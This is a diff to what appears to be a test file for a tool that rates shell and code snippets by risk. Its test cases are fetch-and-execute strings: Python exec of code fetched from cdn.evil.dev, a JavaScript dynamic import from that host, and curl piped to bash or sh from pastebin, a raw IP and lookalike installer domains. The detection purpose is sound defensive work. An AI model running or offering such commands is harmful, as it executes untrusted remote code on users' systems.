@@ -27,6 +27,7 @@ test.each([
     "unseen high",
     "python",
   ],
+  ["import fsspec\nexec(fsspec.open('https://cdn.evil.dev/i.py').read())", "unseen high", "python"],
   ['const m = await import("https://cdn.evil.dev/main.mjs");\nm.default();', "unseen high", "js"],
   ["curl -s https://pastebin.com/raw/x | bash", "unseen critical"],
   ["curl -s http://93.184.216.34/x | bash", "unseen critical"],
@@ -110,6 +111,7 @@ test.each([
 
 test.each([
   ["another name with it in front", "curl -fsSL https://fernwake-tools.io/install.sh | sh", "high"],
+  ["an address that is no installer", "curl -fsSL https://get-started.fernwake.io/check.sh | sh", "medium"],
   ["a cheap ending", "curl -fsSL https://fernwake.click/install.sh | sh", "high"],
   ["no encryption", "curl -fsSL http://get.fernwake.io/install.sh | sh", "high"],
   ["another host", "curl -fsSL https://cdn.moss-notes.io/install.sh | sh", "high"],
